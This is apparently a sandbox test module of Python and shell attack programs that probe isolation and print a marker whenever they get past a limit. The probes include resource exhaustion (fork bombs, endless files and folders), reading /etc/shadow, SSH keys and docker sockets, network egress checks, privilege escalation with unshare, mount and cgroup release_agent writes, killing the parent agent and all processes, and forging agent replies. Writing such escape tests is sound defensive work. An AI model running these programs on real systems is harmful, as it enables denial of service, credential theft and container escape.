"""The longer programs of the attacks, in Python, as they run inside the sandbox.

They print a word in capitals for each thing that they should not have been able to do.
"""

ENDLESS = r"""
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    pass
"""

MANY_HOLD_MEMORY = r"""
import os, time
for _ in range(20):
    if not os.fork():
        held = bytearray(40 << 20)
        time.sleep(30)
while True:
    try:
        os.wait()
    except ChildProcessError:
        break
"""

MANY_FOLDERS = r"""
import os
made = 0
try:
    while True:
        os.mkdir(f"d{made}")
        made += 1
        if made % 5000 == 0:
            print(made, flush=True)
except OSError:
    pass
"""

SHARED_MEMORY = r"""
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
while True:
    made = libc.shmget(0, 1 << 20, 0o1600)
    ctypes.memset(libc.shmat(made, None, 0), 1, 1 << 20)
"""

# In shell: one that needs next to no memory itself, and leaves nothing when it is killed.
EMPTY_FILES = "i=0; while :; do i=$((i+1)); : > f$$-$i || exit 3; done"

MANY_HANDLES = r"""
import os, threading, time
opened, threads = [], 0
try:
    while True:
        opened.append(os.open("/dev/null", 0))
except OSError:
    pass
for fd in opened:
    os.close(fd)
try:
    while True:
        threading.Thread(target=time.sleep, args=(9,), daemon=True).start()
        threads += 1
except (RuntimeError, MemoryError):
    pass
print(len(opened), threads, flush=True)
os._exit(0)
"""

DAEMON = r"""
import os, signal, sys, time
if os.fork():
    sys.exit()
os.setsid()
if os.fork():
    os._exit(0)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
os.closerange(0, 3)
while True:
    time.sleep(0.02)
    open("beat", "a").write("x")
"""

# Arguments: the secret, the folder it is in.
HOST_FILES = r"""
import glob, os, sys
secret, folder = sys.argv[1:]
places = [folder, "/proc/1/root" + folder, "/proc/self/root" + folder, "/host", "/mnt", "/media"]
files = ["/etc/shadow", "/etc/sudoers", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/proc/kcore"]
files += ["/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock"]
files += glob.glob("/root/.*") + glob.glob("/root/*") + glob.glob("/home/*/.ssh/*")
files += [place + "/secret" for place in places]
own = ("self", "thread-self", str(os.getpid()))
files += [path for path in glob.glob("/proc/*/environ") if path.split("/")[2] not in own]
for path in files:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        data = os.read(fd, 1 << 20)
    except OSError:
        continue
    if data:
        print("READ", path)
for place in places:
    try:
        if os.listdir(place):
            print("READ", place)
    except OSError:
        pass
if any(secret in value for value in os.environ.values()):
    print("SECRET in the environment")
"""

# Arguments: a port on the host's loopback, the name of an abstract socket there.
NETWORK = r"""
import socket, sys
def reach(what, family, kind, address, data=b""):
    try:
        with socket.socket(family, kind) as each:
            each.settimeout(0.5)
            each.connect(address)
            if data:
                each.send(data)
                each.recv(100)
            print("REACHED", what)
    except OSError:
        pass
reach("loopback", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int(sys.argv[1])))
reach("abstract socket", socket.AF_UNIX, socket.SOCK_STREAM, "\0" + sys.argv[2])
query = b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
servers = ["127.0.0.53", "1.1.1.1", "8.8.8.8", "169.254.169.254"]
try:
    servers += [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
except OSError:
    pass
for server in servers:
    reach("dns at " + server, socket.AF_INET, socket.SOCK_DGRAM, (server, 53), query)
    reach("http at " + server, socket.AF_INET, socket.SOCK_STREAM, (server, 80))
try:
    print("REACHED a resolver:", socket.gethostbyname("example.com"))
except OSError:
    pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
    print("RAW sockets")
except OSError:
    pass
"""

PRIVILEGES = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
NEWUSER, NEWNS, REMOUNT = 0x10000000, 0x20000, 32
for call in (os.setuid, os.setgid, os.seteuid):
    try:
        call(0)
        print("ROOT by", call.__name__)
    except OSError:
        pass
with open("/proc/self/status") as status:
    if "NoNewPrivs:\t1" not in status.read():
        print("SETUID programs raise rights")
for flags in (0, NEWUSER, NEWUSER | NEWNS):
    if os.fork() == 0:
        libc.unshare(flags)
        try:
            open("/proc/self/setgroups", "w").write("deny")
            open("/proc/self/uid_map", "w").write(f"0 {os.getuid()} 1")
        except OSError:
            pass
        for folder in (b"/", b"/usr", b"/proc", b"/sys"):
            libc.mount(b"none", folder, None, REMOUNT, None)
        for path in ("/usr/bin/planted", "/planted", "/etc/planted", "/usr/bin/env", "/etc/passwd",
                     "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
                     "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/cgroup.procs",
                     "/sys/fs/cgroup/memory/release_agent", "/sys/kernel/uevent_helper"):
            try:
                open(path, "r+b" if os.path.exists(path) else "ab").close()
                print("WROTE", path)
            except OSError:
                pass
        try:
            os.mknod("disk", 0o60666, os.makedev(8, 0))
            open("disk", "rb").read(1)
            print("DEVICE made")
        except OSError:
            pass
        os._exit(0)
    os.wait()
"""

KILL_AGENT = r"""
import ctypes, os, resource
for pid in {1, os.getppid()}:
    for number in range(1, 65):
        try:
            os.kill(pid, number)
        except OSError:
            pass
    for limit in range(16):
        try:
            resource.prlimit(pid, limit, (0, 0))
        except (OSError, ValueError):
            pass
    ctypes.CDLL(None).ptrace(16, pid, 0, 0)
    try:
        open(f"/proc/{pid}/oom_score_adj", "w").write("1000")
    except OSError:
        pass
"""

KILL_ALL = r"""
import os
for pid in range(1, 40000):
    if pid != os.getpid():
        try:
            os.kill(pid, 9)
        except OSError:
            pass
os.kill(-1, 9)
"""

# Writes what an answer of the agent looks like wherever it can be written.
FORGE = r"""
import os
frame = b"\0\0\0\x20" + b"0" * 16 + b"\0\0\0\x011\0\0\0\x04done" + b"\0" * 40
for fd in range(3, 1024):
    try:
        os.write(fd, frame)
    except OSError:
        pass
for pid in {1, os.getppid()}:
    for fd in range(64):
        for mode in ("wb", "ab", "r+b"):
            try:
                open(f"/proc/{pid}/fd/{fd}", mode).write(frame)
            except OSError:
                pass
    try:
        open(f"/proc/{pid}/mem", "r+b")
        print("MEMORY of", pid)
    except OSError:
        pass
os.write(1, frame)
os.write(2, frame)
print("honest")
raise SystemExit(3)
"""

TRAPS = r"""
import os, socket, sys
os.symlink("/etc/passwd", "link")
os.symlink(sys.argv[1], "bait")
os.symlink("/", "up")
os.mkfifo("fifo")
os.mkdir("dir")
open("one", "w").write("x")
os.link("one", "hard")
with open("huge", "wb") as file:
    file.truncate(12 << 20)
socket.socket(socket.AF_UNIX).bind("sock")
"""
